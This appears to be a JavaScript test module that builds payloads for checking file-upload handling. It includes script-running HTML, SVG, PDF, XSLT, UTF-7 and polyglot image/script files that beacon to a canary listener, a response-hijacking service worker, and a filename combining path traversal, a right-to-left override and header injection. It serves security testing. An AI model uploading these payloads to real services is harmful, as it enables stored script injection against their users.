// Files that run something where a browser takes them for what they pretend to be. Each tells its canary: by a request to the listener,
// by a property of the window above or of the opener, by the title of the document, by the console.

// Works in windows and in workers; says where it ran.
const script = (canary, name) => [
  `try{fetch('${canary}/${name}/fetch',{mode:'no-cors'})}catch(e){}`,
  `try{new Image().src='${canary}/${name}/image'}catch(e){}`,
  `try{importScripts('${canary}/${name}/import')}catch(e){}`,
  `try{window.ran='${name}'}catch(e){}`,
  `try{top.ran='${name}'}catch(e){}`,
  `try{opener.ran='${name}'}catch(e){}`,
  `try{document.title='ran ${name}'}catch(e){}`,
  `try{console.error('ran ${name}')}catch(e){}`,
].join(';');

const page = (canary, name) =>
  `<!DOCTYPE html><html><head><title>x</title><script>${script(canary, name)}</script><meta http-equiv="refresh" content="1;url=${canary}/${name}/refresh"></head>` +
  `<body onload="${script(canary, name)}"><img src="${canary}/${name}/img"><img src=x onerror="${script(canary, name)}"><iframe src="${canary}/${name}/frame"></iframe></body></html>`;

const vector = (canary, name) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${script(canary, name)}"><script>${script(canary, name)}</script>` +
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${canary}/${name}/img"/><script>${script(canary, name)}</script></body></foreignObject>` +
  `<image xlink:href="${canary}/${name}/svgimage" width="1" height="1"/></svg>`;

const pdf = (canary, name, inside = '') => `%PDF-1.7\n${inside}\n` +
  '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 4 0 R>>>>endobj\n' +
  `4 0 obj<</S/JavaScript/JS(app.alert\\('${name}'\\);this.submitForm\\('${canary}/${name}/submit'\\);app.launchURL\\('${canary}/${name}/launch'\\);)>>endobj\n` +
  'trailer<</Root 1 0 R/Size 5>>\n%%EOF\n';

// FF D8, an APP0 segment and a comment that is a page; then a scan of nothing.
function jpeg(comment) {
  const text = Buffer.from(comment);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000fffe', 'hex'), length, text,
    Buffer.from('ffdb004300' + '01'.repeat(64) + 'ffc0000b080001000101011100ffc40014000100000000000000000000000000000009ffc40014100100000000000000000000000000000000ffda0008010100003f00d2ffd9', 'hex'),
  ]);
}

const multipart = (canary, name) =>
  'From: <saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://127.0.0.1/x.html\r\n\r\n' +
  `${page(canary, name)}\r\n--b--\r\n`;

const transformed = (canary, name) =>
  '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#s"?>\n<!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>\n<d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
  `<xsl:template match="/"><html><body><script>${script(canary, name)}</script><img src="${canary}/${name}/img"/></body></html></xsl:template></xsl:stylesheet>` +
  `<script xmlns="http://www.w3.org/1999/xhtml">${script(canary, name)}</script></d>`;

// +ADw-script+AD4-: a page only for who guesses UTF-7.
const utf7 = (text) => text.replace(/[<>"&]/g, (c) => `+${Buffer.from([0, c.charCodeAt(0)]).toString('base64').replace(/=+$/, '')}-`);

const utf16 = (text) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

// An empty module of WebAssembly, which is a script for who takes the NUL and the rest for nothing; the start function is not needed.
const wasm = Buffer.from('0061736d01000000', 'hex');

/** @returns {{name: string, extension: string, bytes: Buffer, mustRun: boolean}[]} mustRun: a naive server's visitors run it for certain. */
export function payloads(canary) {
  const of = (name, extension, content, mustRun = false) => ({ name, extension, bytes: Buffer.isBuffer(content) ? content : Buffer.from(content), mustRun });
  const js = (name) => script(canary, name);
  return [
    of('html', 'html', page(canary, 'html'), true),
    of('svg', 'svg', vector(canary, 'svg'), true),
    of('js', 'js', js('js'), true),
    of('css', 'css', `@import url(${canary}/css/import);body,html{background:url(${canary}/css/background)}`, true),
    of('xhtml', 'xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${js('xhtml')}</script></head><body/></html>`, true),
    of('pdf', 'pdf', pdf(canary, 'pdf')),
    of('pdf-html', 'html', pdf(canary, 'pdf-html', page(canary, 'pdf-html')), true),
    of('gif-js', 'js', `GIF89a/*${'\x01\x00\x01\x00'}*/=0;${js('gif-js')}`, true),
    of('jpeg-html', 'html', jpeg(page(canary, 'jpeg-html')), true),
    of('mhtml', 'mhtml', multipart(canary, 'mhtml')),
    of('xslt', 'xml', transformed(canary, 'xslt'), true),
    of('utf7', 'html', `<!DOCTYPE html><meta charset="utf-7">${utf7(page(canary, 'utf7'))}`),
    of('utf16', 'html', utf16(page(canary, 'utf16')), true),
    of('service-worker', 'js', `${js('service-worker')};self.addEventListener&&addEventListener('fetch',e=>e.respondWith(new Response('<script>top.ran=1</script>',{headers:{'Content-Type':'text/html'}})))`, true),
    of('module', 'mjs', `${js('module')};export default 1`, true),
    of('wasm', 'wasm', wasm),
    of('zip-html', 'html', Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.from(page(canary, 'zip-html'))]), true),
    of('named', 'html', page(canary, 'named'), true),
  ];
}

/** Names that lie: a path out of any folder, and an extension that reads backwards. */
export const lyingTitle = '../../..\\<script>\u202Egpj.exe.html"; filename=x.html';
